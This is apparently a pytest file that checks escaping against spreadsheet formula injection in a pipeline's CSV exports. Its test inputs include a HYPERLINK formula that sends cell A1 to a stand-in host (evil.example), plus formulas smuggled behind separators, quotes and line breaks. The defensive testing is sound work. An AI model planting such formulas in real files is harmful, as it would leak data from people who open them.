"""CSV files for people (issue 18): no cell a spreadsheet would run in riskscores.csv,
rejected.csv or /clients.csv, whether it splits them on ',' or on ';'; the exact names wherever
the system reads its own files back (read_risk_list, /risk, the pages, the state page).

The rule itself (pipeline.core.spreadsheet) is checked on every short text over the characters
that matter; the writers on names that would run, or cut a cell where one could run.
"""

from __future__ import annotations

import csv
import io
import itertools

import pyarrow as pa
import pytest

from pipeline.core import spreadsheet

# Names a spreadsheet runs as they are (OWASP's examples), then names that hide one behind a
# separator, a quote, a line break or a tab, and names that begin with the rule's own mark.
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+1", "+1+1", "-1+1",
            "@SUM(1+1)")
AWKWARD = ("acme;=1+1", "acme,=1+1", 'acme "=1+1"', 'acme;"=1+1', "acme\n=1+1", "acme\r\n@x",
           "\t=1+1", "\r=1+1", "acme\t-1+1", "'=1+1", "'quoted'", "acme;'=1+1")
NAMES = FORMULAS + AWKWARD
RUNS = ("=", "+", "-", "@", "\t", "\r")  # what makes a spreadsheet run a cell


def cells(text: str, delimiter: str) -> list[str]:
    """Every cell of a CSV text as a reader that splits on ``delimiter`` sees it."""
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
            for cell in row]


def runnable(cell: str) -> bool:
    """True for a cell a spreadsheet would run: it begins like a formula and is no number."""
    if not cell.startswith(RUNS):
        return False
    try:
        float(cell.removesuffix("%").replace(",", ""))  # -0.52, +12%: numbers, shown as such
    except ValueError:
        return True
    return False


def assert_nothing_runs(text: str) -> None:
    for delimiter in (",", ";", "\t"):
        assert [c for c in cells(text, delimiter) if runnable(c)] == [], delimiter


# The rule ------------------------------------------------------------------------------------

@pytest.mark.parametrize("text, written", [
    ("acme", "acme"),
    ("=1+1", "'=1+1"),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1", "'\t'=1"),             # a tab begins it, and another cell may begin after it
    ("\r=1", "'\r'=1"),
    ("'quoted'", "''quoted'"),      # a ' of its own: one more, so reading takes exactly one
    ("acme;=1+1", "acme;'=1+1"),    # a reader splitting on ; starts a cell after it
    ('acme;"=1+1', "acme;'\"=1+1"),  # ... and takes that quote as an opening one
    ("acme; =1+1", "acme; =1+1"),
    ("acme,=1+1", "acme,=1+1"),     # quoted: a reader splitting on , never cuts it
    ("a\nb", "a\n'b"),              # after every line break: a reader out of step starts a row
    ("Smith & Co.; Ltd", "Smith & Co.; Ltd"),
    ("", ""),
])
def test_the_rule_on_a_table_of_cases(text, written):
    assert spreadsheet.protect_text(text) == written
    assert spreadsheet.unprotect_text(written) == text
    column = pa.array([text, None], type=pa.large_string())
    assert spreadsheet.protect_column(column).to_pylist() == [written, None]


ALPHABET = (";", ",", "'", '"', "=", "-", "@", "\t", "\r", "\n", "a")
SHORT = ["".join(chars) for n in range(5) for chars in itertools.product(ALPHABET, repeat=n)]


def test_the_rule_is_undone_exactly_and_the_column_functions_agree():
    written = [spreadsheet.protect_text(t) for t in SHORT]
    assert [spreadsheet.unprotect_text(w) for w in written] == SHORT
    column = spreadsheet.protect_column(pa.chunked_array([SHORT[:999], SHORT[999:]]))
    assert column.to_pylist() == written
    assert spreadsheet.unprotect_column(column).to_pylist() == SHORT
    plain = pa.array(["acme", "bolt, inc.", "x'y", ""])
    assert spreadsheet.unprotect_column(plain) is plain  # nothing to undo: not even a copy


@pytest.mark.parametrize("layout", ["{t},-1,2,{u}", "1,{t},-0.5,{u}", "{t},{u}"])
def test_no_short_text_can_start_a_formula_cell_wherever_it_sits(layout):
    """Every short text, quoted as the writers quote text, in rows of text and numbers: read
    with ',', ';' or a tab as the separator, no cell begins a formula."""
    def field(text: str) -> str:
        return '"' + spreadsheet.protect_text(text).replace('"', '""') + '"'

    rows = [layout.format(t=field(t), u=field(u)) for t, u in zip(SHORT, reversed(SHORT),
                                                                   strict=True)]
    for start in range(0, len(rows), 1000):  # a quote out of step ends within a block
        assert_nothing_runs("\n".join(rows[start:start + 1000]) + "\n")
